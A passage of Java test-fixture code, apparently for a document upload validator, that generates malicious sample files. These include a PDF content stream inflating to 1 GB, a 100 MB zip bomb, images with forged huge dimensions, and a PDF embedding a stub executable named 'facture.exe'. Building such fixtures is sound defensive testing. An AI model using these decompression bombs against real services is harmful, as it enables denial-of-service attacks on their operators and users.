				content.newLineAtOffset(72, 700);
				content.showText("Attestation de droits");
				content.endText();
			}
			tweak.accept(document);
			document.save(out, compressed ? CompressParameters.DEFAULT_COMPRESSION : CompressParameters.NO_COMPRESSION);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static byte[] pdfPages(int pages) {
		return pdf(doc -> {
			for (int i = 1; i < pages; i++) {
				doc.addPage(new PDPage());
			}
		}, true);
	}

	/**
	 * A page whose content stream inflates to 1 GB of zeros (optionally hex-encoded too).
	 */
	private static byte[] pdfBomb(boolean hexFirst) {
		byte[] deflated = deflatedZeros(1024L * 1024 * 1024);
		return pdf(doc -> {
			try {
				PDStream stream = new PDStream(doc);
				COSStream cos = stream.getCOSObject();
				try (OutputStream raw = cos.createRawOutputStream()) {
					raw.write(hexFirst ? HexFormat.of().formatHex(deflated).getBytes(StandardCharsets.US_ASCII)
							: deflated);
				}
				if (hexFirst) {
					COSArray filters = new COSArray();
					filters.add(COSName.ASCII_HEX_DECODE);
					filters.add(COSName.FLATE_DECODE);
					cos.setItem(COSName.FILTER, filters);
				}
				else {
					cos.setItem(COSName.FILTER, COSName.FLATE_DECODE);
				}
				doc.getPage(0).setContents(stream);
			}
			catch (IOException ex) {
				throw new UncheckedIOException(ex);
			}
		});
	}

	private static byte[] deflatedZeros(long size) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (DeflaterOutputStream deflater = new DeflaterOutputStream(out, new Deflater(9), 64 * 1024)) {
			byte[] zeros = new byte[1024 * 1024];
			for (long written = 0; written < size; written += zeros.length) {
				deflater.write(zeros);
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] encryptedPdf(String userPassword) {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			document.addPage(new PDPage());
			StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword,
					new AccessPermission());
			policy.setEncryptionKeyLength(128);
			document.protect(policy);
			document.save(out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static COSDictionary catalog(PDDocument document) {
		return document.getDocumentCatalog().getCOSObject();
	}

	private static COSArray annotations(PDDocument document) {
		COSDictionary page = document.getPage(0).getCOSObject();
		COSArray annotations = page.getCOSArray(COSName.ANNOTS);
		if (annotations == null) {
			annotations = new COSArray();
			page.setItem(COSName.ANNOTS, annotations);
		}
		return annotations;
	}

	private static COSDictionary action(String type, COSName key, org.apache.pdfbox.cos.COSBase value) {
		COSDictionary action = new COSDictionary();
		action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
		action.setItem(COSName.S, COSName.getPDFName(type));
		action.setItem(key, value);
		return action;
	}

	private static COSDictionary link(COSDictionary action) {
		COSDictionary annotation = new COSDictionary();
		annotation.setItem(COSName.TYPE, COSName.ANNOT);
		annotation.setItem(COSName.SUBTYPE, COSName.LINK);
		annotation.setItem(COSName.RECT, rect());
		annotation.setItem(COSName.A, action);
		return annotation;
	}

	private static COSArray rect() {
		COSArray rect = new COSArray();
		for (int v : new int[] { 72, 600, 300, 640 }) {
			rect.add(org.apache.pdfbox.cos.COSInteger.get(v));
		}
		return rect;
	}

	private static COSDictionary fileSpec(PDDocument document) {
		try {
			PDStream embedded = new PDStream(document);
			try (OutputStream out = embedded.createOutputStream()) {
				out.write(exe());
			}
			embedded.getCOSObject().setItem(COSName.TYPE, COSName.getPDFName("EmbeddedFile"));
			COSDictionary ef = new COSDictionary();
			ef.setItem(COSName.F, embedded.getCOSObject());
			COSDictionary spec = new COSDictionary();
			spec.setItem(COSName.TYPE, COSName.FILESPEC);
			spec.setItem(COSName.F, new COSString("facture.exe"));
			spec.setItem(COSName.EF, ef);
			return spec;
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	static byte[] png() {
		return image("png", 40, 20);
	}

	static byte[] jpeg() {
		return image("jpg", 40, 20);
	}

	private static byte[] image(String format, int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		image.setRGB(3, 3, 0xFF0000);
		try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			ImageIO.write(image, format, out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/**
	 * A real small PNG whose IHDR announces other dimensions (the CRC is not checked).
	 */
	private static byte[] hugePng(int width, int height) {
		byte[] png = png();
		writeInt(png, 16, width);
		writeInt(png, 20, height);
		return png;
	}

	/** A real small JPEG whose SOF announces 65,000 × 65,000 pixels. */
	private static byte[] hugeJpeg() {
		byte[] jpeg = jpeg();
		for (int i = 2; i + 9 < jpeg.length; i++) {
			if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xC0) {
				jpeg[i + 5] = (byte) 0xFD;
				jpeg[i + 6] = (byte) 0xE8;
				jpeg[i + 7] = (byte) 0xFD;
				jpeg[i + 8] = (byte) 0xE8;
				return jpeg;
			}
		}
		throw new IllegalStateException("No SOF0 in the JPEG");
	}

	private static byte[] jpegWithComment(String comment) {
		byte[] jpeg = jpeg();
		byte[] text = ascii(comment);
		int length = text.length + 2;
		byte[] segment = concat(new byte[] { (byte) 0xFF, (byte) 0xFE, (byte) (length >> 8), (byte) length }, text);
		return concat(concat(java.util.Arrays.copyOf(jpeg, 2), segment),
				java.util.Arrays.copyOfRange(jpeg, 2, jpeg.length));
	}

	/** A zip holding 100 MB of zeros (the classic shape of a bomb, smaller). */
	private static byte[] zipBomb() {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.setLevel(9);
			zip.putNextEntry(new ZipEntry("zeros.bin"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < 100; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] exe() {
		byte[] exe = new byte[1024];
		exe[0] = 'M';
		exe[1] = 'Z';
		exe[0x3C] = (byte) 0x80;
		exe[0x80] = 'P';
		exe[0x81] = 'E';
		System.arraycopy(ascii("This program cannot be run in DOS mode."), 0, exe, 0x4E, 39);
		return exe;
	}

	private static byte[] elf() {
		byte[] elf = new byte[512];
		elf[0] = 0x7F;
		elf[1] = 'E';
		elf[2] = 'L';
		elf[3] = 'F';
		elf[4] = 2;
		elf[5] = 1;
		elf[6] = 1;
		return elf;
	}

	private static void writeInt(byte[] bytes, int at, int value) {
		bytes[at] = (byte) (value >>> 24);
		bytes[at + 1] = (byte) (value >>> 16);
		bytes[at + 2] = (byte) (value >>> 8);
		bytes[at + 3] = (byte) value;
	}

	private static byte[] concat(byte[] a, byte[] b) {
		byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
		System.arraycopy(b, 0, both, a.length, b.length);
		return both;
	}

	private static byte[] ascii(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

	private static String latin1(byte[] bytes) {
		return new String(bytes, StandardCharsets.ISO_8859_1);
	}

	private static byte[] latin1(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

}
